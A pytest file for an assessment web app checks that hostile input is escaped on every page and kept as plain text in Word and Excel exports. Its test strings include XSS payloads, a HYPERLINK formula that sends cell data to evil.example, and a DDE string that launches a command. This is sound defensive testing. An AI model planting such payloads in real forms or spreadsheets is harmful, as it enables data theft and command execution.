"""Hostile text everywhere a person types, checked in everything that shows it.

One fixed list of strings (markup, spreadsheet formulas and DDE, leading whitespace before
"=", a right-to-left override, Arabic, emoji, a 10,000-character text, control characters)
goes into the organisation profile, user names, the assessment's title and scope, the
answers (evidence, notes, owner, justification), roadmap edits and workshop names. Every
page that shows them must print them escaped, and isolated when they can turn direction;
the Word report and the answers workbook must hold them as plain text (never a field, a
hyperlink or a formula); the JSON answers must parse and give them back intact.

The app has no CSV export (answers come in as CSV, nothing goes out as CSV):
``test_there_is_no_csv_export`` keeps that true, so a new export meets these checks.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from dataclasses import replace
from pathlib import Path

import docx
import openpyxl
import pytest
from click.testing import CliRunner
from markupsafe import escape

import gapassess.cli
from gapassess.db import workshops
from gapassess.db.models import Assessment, Participant, Response, RoadmapEdit
from gapassess.db.workshop_votes import record_vote
from gapassess.domain.answers_file import read_answers
from gapassess.domain.bidi import FSI, PDI, isolate
from gapassess.domain.questionnaire import get_questionnaire
from gapassess.domain.report import build_report, report_bytes
from gapassess.domain.workbook import write_template
from tests import factories, results_data, workshop_support
from tests import report_support as rs
from tests.report_support import all_text
from tests.web_pages import browser_form

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img": "\"><img src=x onerror=alert(1)>",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "spaces": "  =1+1",
    "override": "Evil\u202eoC",
    "arabic": "شركة الجودة",
    "emoji": "✅🚀",
}
#: U+0001 and U+001B: the answer rules refuse them; other fields (and legacy rows) hold them.
CONTROL = "ctrl\x01 esc\x1b end"
CONTROL_SHOWN = "ctrl esc end"  # as a Word file or workbook can hold it
LONG = ("=A1 <b>long</b> " * 700)[:9999] + "!"  # 10,000 characters, evidence and notes only
RAW_MARKUP = ("<script>alert", "<img src=x", "onerror=alert(1)>")
OVERRIDE = HOSTILE["override"]
BANK = "iso9001-2026"
CLAUSE = "4"


def typed(text: str) -> str:
    """``text`` as the app stores it from a form: the ends trimmed."""
    return text.strip()


def shown(text: str) -> str:
    """``text`` as a page prints it: isolated when it can turn direction, then escaped."""
    return str(escape(isolate(text)))


def _without_form_values(page: str) -> str:
    """The page less what form fields hold (they keep the value as typed, not isolated)."""
    page = re.sub(r"<textarea[^>]*>.*?</textarea>", "", page, flags=re.S)
    return re.sub(r'\svalue="[^"]*"', "", page)


def check_page(page: str, *values: str, where: str) -> None:
    """No markup from the text, every value printed escaped (and isolated), and a direction
    override only inside an isolate, outside form fields."""
    for raw in RAW_MARKUP:
        assert raw not in page, f"{where}: raw {raw!r} in the page"
    for value in values:
        assert shown(value) in page, f"{where}: {value[:40]!r} not printed escaped"
    rest = re.sub(f"{FSI}[^{PDI}]*{PDI}", "", _without_form_values(page))
    assert "\u202e" not in rest, f"{where}: a direction override outside an isolate"


# ---------------------------------------------------------------- putting the text in
def _login(client, user) -> None:
    response = client.post("/login", data={"email": user.email, "password": factories.PASSWORD})
    assert response.status_code == 302, response.data


def _edit_org(client, org, text: str) -> None:
    response = client.post(f"/orgs/{org.id}/edit", data={
        "name": text, "sector": text, "size": text[:40], "sites": "1",
        "certification_status": "not-certified", "certification_body": text,
        "capacity_days_per_month": "8", "scoring_model": "",
    })
    assert response.status_code == 302, response.get_data(as_text=True)


def _new_assessment(client, db, org, text: str) -> Assessment:
    response = client.post(f"/orgs/{org.id}/assessments/new", data={
        "questionnaire": BANK, "title": text, "scope": text, "baseline": "none",
    })
    assert response.status_code == 302, response.get_data(as_text=True)
    assessment_id = int(response.headers["Location"].rstrip("/").rsplit("/", 1)[1])
    return db.get(Assessment, assessment_id)


def _rate_more(db, assessment, skip: int = 2, count: int = 12) -> None:
    """Levels for ``count`` items after the first ``skip`` (which the test answers itself):
    enough for every class and a roadmap, few enough for fast pages."""
    for n, item_id in enumerate(results_data.item_ids()[:skip + count]):
        if n >= skip:
            compliance, outcome = results_data.levels(n)
            factories.gen_response(db, assessment, item_id, compliance=compliance,
                                   outcome=outcome)
    db.commit()


def _autosave(client, assessment, item_id: str, values: dict, version: int = 0):
    response = client.post(f"/assessments/{assessment.id}/items/{item_id}/answer",
                           json={"version": version, "values": values})
    body = json.loads(response.get_data(as_text=True))  # valid JSON, whatever the text
    return response, body


def _texts(text: str) -> dict[str, str]:
    return {"justification": text, "evidence": text, "notes": text, "owner": text}


def _form_save(client, assessment, item_id: str, text: str):
    """The clause form as a browser without script posts it, ``item_id``'s texts set."""
    url = f"/assessments/{assessment.id}/clauses/{CLAUSE}"
    fields = browser_form(client.get(url).get_data(as_text=True))
    fields.update({f"{item_id}:compliance": "2", f"{item_id}:outcome": "1"})
    fields.update({f"{item_id}:{name}": value for name, value in _texts(text).items()})
    return client.post(url, data=fields)


def _edit_first_action(client, db, assessment, text: str) -> str:
    action = results_data.first_action(db, assessment)
    response = client.post(f"/assessments/{assessment.id}/roadmap", data={
        "action_id": action.id, "owner": text, "due": "", "status": "planned", "notes": text,
    })
    assert response.status_code == 302, response.get_data(as_text=True)
    return action.id


def _join(app, workshop, name: str):
    """A participant joins from a phone of their own (a client with its own cookies)."""
    phone = app.test_client()
    response = phone.post(f"/w/{workshop.code}/join", data={"name": name})
    assert response.status_code == 302, response.get_data(as_text=True)
    return phone


def _stored_answer(db, assessment, item_id: str) -> Response:
    db.expire_all()
    return db.query(Response).filter_by(assessment_id=assessment.id, item_id=item_id).one()


# ---------------------------------------------------------------- pages
@pytest.mark.parametrize("key", list(HOSTILE))
def test_every_page_prints_the_text_escaped_and_isolated(app, client, db, org_with_people, key):
    text = HOSTILE[key]
    value = typed(text)
    org, _, people = org_with_people
    consultant = people["consultant"]
    consultant.name = text  # user names come from accounts (tests/factories.py gen_user)
    member = factories.gen_user(db, org, role="viewer", name=text)
    db.commit()
    _login(client, consultant)
    _edit_org(client, org, text)
    db.expire_all()
    assert (org.name, org.sector, org.certification_body) == (value, value, value)

    assessment = _new_assessment(client, db, org, text)
    assert (assessment.title, assessment.scope) == (value, value)
    items = [item.id for item in get_questionnaire(BANK).items]
    _rate_more(db, assessment)
    response, body = _autosave(client, assessment, items[0],
                               {"compliance": 2, "outcome": 1, **_texts(text)})
    assert response.status_code == 200, body
    changes = {c["field"]: c["after"] for c in body["history_entry"]["changes"]}
    assert value in changes["Owner"] or changes["Owner"].startswith(value[:20])
    saved = _form_save(client, assessment, items[1], text)
    assert saved.status_code == 302, saved.get_data(as_text=True)
    for item_id in items[:2]:
        stored = _stored_answer(db, assessment, item_id)
        assert (stored.evidence, stored.notes, stored.owner, stored.justification) == (
            value, value, value, value), item_id

    action_id = _edit_first_action(client, db, assessment, text)
    edit = db.query(RoadmapEdit).filter_by(assessment_id=assessment.id,
                                           action_id=action_id).one()
    assert (edit.owner, edit.notes) == (value, value)

    workshop = workshop_support.open_workshop(db, org, consultant, assessment=assessment,
                                              items=items[:3], title=text)
    phone = _join(app, workshop, text)
    name = " ".join(text.split())
    assert db.query(Participant).filter_by(workshop_id=workshop.id).one().name == name

    aid, wid = assessment.id, workshop.id
    pages = {
        "home": ("/", [value]),
        "org profile": (f"/orgs/{org.id}", [value]),
        "org edit": (f"/orgs/{org.id}/edit", []),
        "members": (f"/orgs/{org.id}/members", [value, typed(member.name)]),
        "assessment overview": (f"/assessments/{aid}", [value]),
        "clause page": (f"/assessments/{aid}/clauses/{CLAUSE}", [value]),
        "results overview": (f"/assessments/{aid}/results", [value]),
        "results clause": (f"/assessments/{aid}/results/clauses/{CLAUSE}", [value]),
        "roadmap": (f"/assessments/{aid}/roadmap", [value]),
        "workshop console": (f"/assessments/{aid}/workshops/{wid}", [value, name]),
        "workshop projector": (f"/assessments/{aid}/workshops/{wid}/projector", [value]),
    }
    for where, (url, values) in pages.items():
        page = client.get(url)
        assert page.status_code == 200, (where, page.status_code)
        check_page(page.get_data(as_text=True), *values, where=where)
    room = phone.get(f"/w/{workshop.code}/")
    assert room.status_code == 200
    check_page(room.get_data(as_text=True), name, where="participant's phone")

    state = json.loads(client.get(f"/assessments/{aid}/workshops/{wid}/state").data)
    assert [p["name"] for p in state["participants"]] == [name]
    assert json.loads(phone.get(f"/w/{workshop.code}/state").data)["name"] == name


@pytest.mark.parametrize("key", ["override", "arabic"])
def test_answer_fields_hold_the_text_as_typed(client, db, login_as, org_with_people, key):
    """The clause page's own fields (written by hand, not by WTForms) are not isolated:
    posting the page back unchanged changes nothing."""
    org, _, _ = org_with_people
    text = HOSTILE[key]
    assessment = factories.gen_assessment(db, org)
    item_id = results_data.item_ids()[0]
    texts = {"evidence": text, "notes": text, "owner": text}
    factories.gen_response(db, assessment, item_id, **texts)
    db.commit()
    login_as("assessor")
    url = f"/assessments/{assessment.id}/clauses/{CLAUSE}"
    fields = browser_form(client.get(url).get_data(as_text=True))
    assert {name: fields[f"{item_id}:{name}"] for name in texts} == texts
    again = client.post(url, data=fields, follow_redirects=True).get_data(as_text=True)
    assert "No changes to save." in again
    assert _stored_answer(db, assessment, item_id).version == 1


# ---------------------------------------------------------------- files
#: What the files are built from: every hostile string, the long text and the control
#: characters, as stored (legacy rows: written to the model directly, past the rules).
STORED = [*HOSTILE.values(), LONG, CONTROL]
ORG_NAME = f"{OVERRIDE} {HOSTILE['script']} {CONTROL}"


def _plain(text: str) -> str:
    """``text`` less what XML cannot hold (the files drop it, the rest stays)."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)


@pytest.fixture
def stored_assessment(db, org_with_people):
    """An assessment whose answers, names and title hold the hostile text as stored."""
    org, _, people = org_with_people
    org.name = ORG_NAME
    assessment = factories.gen_assessment(db, org, title=HOSTILE["hyperlink"],
                                          scope=HOSTILE["img"])
    ids = results_data.item_ids()
    for n, item_id in enumerate(ids[:40]):
        compliance, outcome = results_data.levels(n)
        row = factories.gen_response(db, assessment, item_id, compliance=compliance,
                                     outcome=outcome)
        if n < len(STORED):
            text = STORED[n]
            row.evidence = row.notes = row.justification = text
            row.owner = text if text is not LONG else text[:200]
    workshop = workshop_support.open_workshop(db, org, people["consultant"],
                                              assessment=assessment, items=ids[:2],
                                              show_names=True)
    for n, name in enumerate((HOSTILE["script"], OVERRIDE, CONTROL)):
        participant, _token = workshops.join(db, workshop, name)
        db.commit()
        record_vote(db, workshop, participant, ids[0], compliance=n, outcome=1,
                    submission_id=workshop_support.sid())
    db.commit()
    return assessment


def _docx_parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()
                if name.endswith(".xml") or name.endswith(".rels")}


def check_report(data: bytes) -> None:
    document = docx.Document(io.BytesIO(data))
    text = all_text(document)
    for value in [*HOSTILE.values(), CONTROL]:
        assert typed(_plain(value)) in text, value
    assert LONG[:2000] in text
    assert typed(_plain(ORG_NAME)) in text
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text)
    for name, xml in _docx_parts(data).items():
        assert "<script" not in xml and "<img" not in xml, name
        assert "<w:hyperlink" not in xml and "<w:fldSimple" not in xml, name
        instructions = re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", xml)
        for instruction in instructions:  # only the report's own fields
            assert re.fullmatch(r' (TOC \\o "1-2" \\h \\z \\u|PAGE|NUMPAGES) ', instruction), (
                name, instruction)
    rels = "".join(xml for name, xml in _docx_parts(data).items() if name.endswith(".rels"))
    assert "hyperlink" not in rels and "evil.example" not in rels


def test_word_report_download_holds_the_text_as_plain_text(client, login_as,
                                                           stored_assessment):
    login_as("viewer")
    # the answers' own text is in the working papers
    response = client.get(f"/assessments/{stored_assessment.id}/report.docx?appendix=1")
    assert response.status_code == 200
    check_report(response.data)


def _hostile_report() -> bytes:
    answers = []
    for n, answer in enumerate(rs.answers()):
        if n < len(STORED):
            text = STORED[n]
            answer = replace(answer, evidence=text, notes=text, justification=text,
                             owner=text[:200])
        answers.append(answer)
    votes = {answers[0].item_id: [(HOSTILE["script"], 1, 2), (CONTROL, 2, 2),
                                  (OVERRIDE, 0, 1)]}
    meta = rs.meta(organisation=ORG_NAME, title=HOSTILE["hyperlink"], assessor=CONTROL)
    document = build_report(rs.result_for(answers), rs.questionnaire(), answers, meta,
                            votes=votes, appendix=True)
    return report_bytes(document)


def test_build_report_takes_hostile_answers_and_names():
    check_report(_hostile_report())


@pytest.mark.slow
def test_libreoffice_shows_the_hostile_text_as_text(tmp_path):
    """A word processor prints the strings as they were typed: no formula result, no link
    text, no markup taken as formatting."""
    import shutil
    import subprocess

    from tests.test_report_pdf import _pdf_text, _soffice

    soffice = _soffice()
    source = tmp_path / "hostile.docx"
    source.write_bytes(_hostile_report())
    done = subprocess.run(
        [soffice, f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless",
         "--convert-to", "pdf", "--outdir", str(tmp_path), str(source)],
        capture_output=True, timeout=300,
    )
    pdf = tmp_path / "hostile.pdf"
    assert done.returncode == 0 and pdf.exists(), done.stderr.decode(errors="replace")
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext is not installed")
    text = " ".join((_pdf_text(pdf) or "").split())
    for key in ("script", "img", "hyperlink", "dde", "plus", "minus", "at"):
        assert " ".join(HOSTILE[key].split()) in text, key


def check_workbook(data: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["Answers"]
    header = [cell.value for cell in sheet[1]]
    texts = [header.index(name) for name in ("justification", "evidence", "notes", "owner")]
    found = set()
    for row in sheet.iter_rows(min_row=2):
        for col in texts:
            cell = row[col]
            if cell.value is None:
                continue
            assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
            found.add(cell.value)
    for value in STORED:
        plain = _plain(value)
        assert plain in found or plain[:200] in found, value
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<f[\s>]", xml), f"a formula in {name}"


def test_workbook_download_holds_the_text_as_text_never_a_formula(client, login_as,
                                                                 stored_assessment):
    login_as("viewer")
    response = client.get(f"/assessments/{stored_assessment.id}/workbook.xlsx")
    assert response.status_code == 200
    check_workbook(response.data)


def test_workbook_read_back_gives_the_text_back(tmp_path):
    """The workbook the app writes reads back as the same answers (control characters
    aside), so a round trip through a spreadsheet keeps formulas as text."""
    answers = [replace(a, evidence=typed(text), notes=typed(text))
               for a, text in zip(rs.answers(), HOSTILE.values(), strict=False)]
    path = write_template(rs.questionnaire(), tmp_path / "answers.xlsx", answers)
    read = {a.item_id: a for a in read_answers(path, rs.questionnaire())}
    for answer in answers:
        back = read[answer.item_id]
        assert (back.evidence, back.notes) == (answer.evidence, answer.notes)


# ---------------------------------------------------------------- JSON and refusals
def test_score_json_is_valid_and_gives_the_text_back(tmp_path):
    answers = [replace(a, evidence=text, notes=text, owner=typed(text))
               for a, text in zip(rs.answers(), HOSTILE.values(), strict=False)]
    answers[0] = replace(answers[0], evidence=LONG)
    path = rs.write_answers_csv(tmp_path / "answers.csv", answers)
    for name in (*HOSTILE.values(), ORG_NAME.replace(CONTROL, "")):
        result = CliRunner().invoke(gapassess.cli.main, [
            "score", "--answers", str(path), "--json", "--start-date", "2027-01-04",
            "--organisation", name], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        data = json.loads(result.output)
        assert data["organisation"] == name


def test_control_characters_in_answers_are_refused_with_a_message(client, db, login_as,
                                                                  org_with_people, tmp_path):
    org, _, _ = org_with_people
    assessment = factories.gen_assessment(db, org)
    db.commit()
    login_as("assessor")
    item_id = results_data.item_ids()[0]
    for field in ("evidence", "notes", "owner", "justification"):
        response, body = _autosave(client, assessment, item_id, {field: CONTROL})
        assert response.status_code == 400
        assert body["field"] == field and "U+0001" in body["message"], body
    page = _form_save(client, assessment, item_id, CONTROL)
    assert page.status_code == 400
    assert "control character (U+0001)" in page.get_data(as_text=True)
    assert db.query(Response).filter_by(assessment_id=assessment.id).count() == 0

    answers = [replace(rs.answers()[0], evidence=CONTROL)]
    path = rs.write_answers_csv(tmp_path / "answers.csv", answers)
    result = CliRunner().invoke(gapassess.cli.main, ["score", "--answers", str(path)])
    assert result.exit_code != 0
    assert "U+0001" in result.output and "evidence" in result.output and "row 2" in result.output


def test_long_text_goes_in_where_the_limit_allows(client, db, login_as, org_with_people):
    org, _, _ = org_with_people
    assessment = factories.gen_assessment(db, org)
    db.commit()
    login_as("assessor")
    item_id = results_data.item_ids()[0]
    response, body = _autosave(client, assessment, item_id,
                               {"evidence": LONG, "notes": LONG})
    assert response.status_code == 200, body
    stored = _stored_answer(db, assessment, item_id)
    assert stored.evidence == stored.notes == LONG
    page = client.get(f"/assessments/{assessment.id}/clauses/{CLAUSE}").get_data(as_text=True)
    check_page(page, where="clause page")
    assert str(escape(LONG)) in page
    too_long, body = _autosave(client, assessment, item_id, {"owner": LONG[:201]},
                               version=stored.version)
    assert too_long.status_code == 400 and body["field"] == "owner"


def test_legacy_rows_with_control_characters_still_show(client, login_as, stored_assessment):
    login_as("viewer")
    aid = stored_assessment.id
    for url in (f"/assessments/{aid}", f"/assessments/{aid}/clauses/{CLAUSE}",
                f"/assessments/{aid}/results", f"/assessments/{aid}/roadmap"):
        page = client.get(url)
        assert page.status_code == 200, url
        check_page(page.get_data(as_text=True), where=url)


def test_there_is_no_csv_export():
    """Nothing the app sends is CSV: when an export appears, it needs the checks above
    (a formula-safe cell rule like the workbook's) and this test must change."""
    root = Path(__file__).resolve().parents[1] / "gapassess"
    # Evidence files are the organisation's own documents, handed back unchanged and only
    # as attachments: the evidence rules name the CSV type to recognise an upload.
    uploaded_as_is = {root / "domain" / "evidence.py"}
    for path in root.rglob("*.py"):
        if path in uploaded_as_is:
            continue
        source = path.read_text(encoding="utf-8")
        for sign in ("csv.writer", "csv.DictWriter", "text/csv", ".to_csv("):
            assert sign not in source, f"{path.relative_to(root.parent)} uses {sign}"
